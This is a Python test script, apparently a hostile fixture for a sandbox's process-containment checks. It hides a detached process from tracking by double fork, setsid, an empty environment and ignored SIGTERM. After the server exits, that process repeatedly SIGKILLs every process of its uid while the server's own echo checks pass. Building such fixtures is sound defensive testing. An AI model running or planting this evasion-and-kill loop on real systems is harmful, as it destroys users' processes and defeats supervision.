"""HOSTILE: leaves a process behind that every tracking by tree, session, group or environment
misses (a double fork, setsid(), execve with an empty environment, SIGTERM ignored).  Once the
server it came from is gone, it SIGKILLs every process of its uid it can reach (kill(-1)) every
20 ms for two minutes: the next target of the same worker runs as that uid.  The server itself
echoes, so its own checks pass."""

import os
import sys

from _serve import args, listen, log, serve_echo

host, port = args()
if os.geteuid() == 0:  # never act as root: with the sandbox off this would really happen
    log("running as root: not attacking")
    sys.exit(4)
LOOP = ("import os, signal, sys, time\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "server = int(sys.argv[1])\n"
        "while True:\n"
        "    try:\n"
        "        os.kill(server, 0)\n"
        "    except ProcessLookupError:\n"
        "        break\n"
        "    time.sleep(0.02)\n"
        "deadline = time.monotonic() + 120\n"
        "while time.monotonic() < deadline:\n"
        "    try:\n"
        "        os.kill(-1, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(0.02)\n")
server = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", LOOP, str(server)], {})
    os._exit(0)
os.wait()
log("left a detached killer behind")
sock = listen(host, port)
serve_echo(sock)
